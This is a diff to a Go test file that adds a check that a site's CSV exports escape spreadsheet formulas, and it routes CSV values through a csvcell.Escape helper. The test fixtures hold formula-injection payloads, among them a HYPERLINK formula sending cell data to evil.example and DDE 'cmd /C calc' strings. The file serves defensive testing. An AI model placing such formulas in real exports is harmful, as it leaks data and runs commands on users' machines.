@@ -18,6 +18,7 @@ import (
 	"time"
 	"unicode/utf8"
 
+	"github.com/pssdc/guide-iad/tools/internal/csvcell"
 	"github.com/pssdc/guide-iad/tools/sitetest"
 	"golang.org/x/net/html"
 )
@@ -332,6 +333,42 @@ func TestCSV(t *testing.T) {
 			}
 			if m := regexp.MustCompile(`&(#\d+|#x[0-9a-fA-F]+|amp|lt|gt|quot);`).Find(raw); m != nil {
 				t.Errorf("%s holds the HTML escape %s: text must be written as is", file, m)
+			}
+		}
+	}
+	// Text a spreadsheet would run starts with an apostrophe in CSV; JSON keeps it as is.
+	for _, lang := range langs {
+		_, recs := b.csvRecords(t, lang, "projects")
+		var rec []string
+		for _, r := range recs {
+			if r[0] == "eta-formulas" {
+				rec = r
+			}
+		}
+		var row map[string]any
+		for _, r := range b.jsonRows(t, lang, "projects") {
+			if r["id"] == "eta-formulas" {
+				row = r
+			}
+		}
+		want := map[string][3]string{ // title, summary, organization: JSON, then CSV
+			"en": {`=HYPERLINK("https://evil.example/?"&A1,"Click")`, `-2+3+cmd|' /C calc'!A0`, `+1 organization`},
+			"fr": {`'Apostrophe d'abord`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-0.5`},
+		}[lang]
+		wantCSV := map[string][3]string{
+			"en": {`'=HYPERLINK("https://evil.example/?"&A1,"Click")`, `'-2+3+cmd|' /C calc'!A0`, `'+1 organization`},
+			"fr": {`''Apostrophe d'abord`, `'@SUM(1+1)*cmd|' /C calc'!A0`, `-0.5`},
+		}[lang]
+		if rec == nil || row == nil {
+			t.Errorf("/%s/projects: no eta-formulas record or row", lang)
+			continue
+		}
+		for i, key := range []string{"title", "summary", "organization"} {
+			if row[key] != want[i] {
+				t.Errorf("/%s/projects.json eta-formulas %s: %q, want the true value %q", lang, key, row[key], want[i])
+			}
+			if rec[i+1] != wantCSV[i] {
+				t.Errorf("/%s/projects.csv eta-formulas %s: %q, want %q", lang, key, rec[i+1], wantCSV[i])
 			}
 		}
 	}
@@ -865,7 +902,8 @@ func js(v any) string {
 	return string(b)
 }
 
-// csvValue is how a JSON value of a row is written in CSV.
+// csvValue is how a JSON value of a row is written in CSV: lists joined with ";", the
+// cell neutralised for spreadsheets as tools/internal/csvcell does.
 func csvValue(v any) string {
 	switch v := v.(type) {
 	case nil:
@@ -875,9 +913,9 @@ func csvValue(v any) string {
 		for _, x := range v {
 			s = append(s, fmt.Sprint(x))
 		}
-		return strings.Join(s, ";")
+		return csvcell.Escape(strings.Join(s, ";"))
 	default:
-		return fmt.Sprint(v)
+		return csvcell.Escape(fmt.Sprint(v))
 	}
 }
 
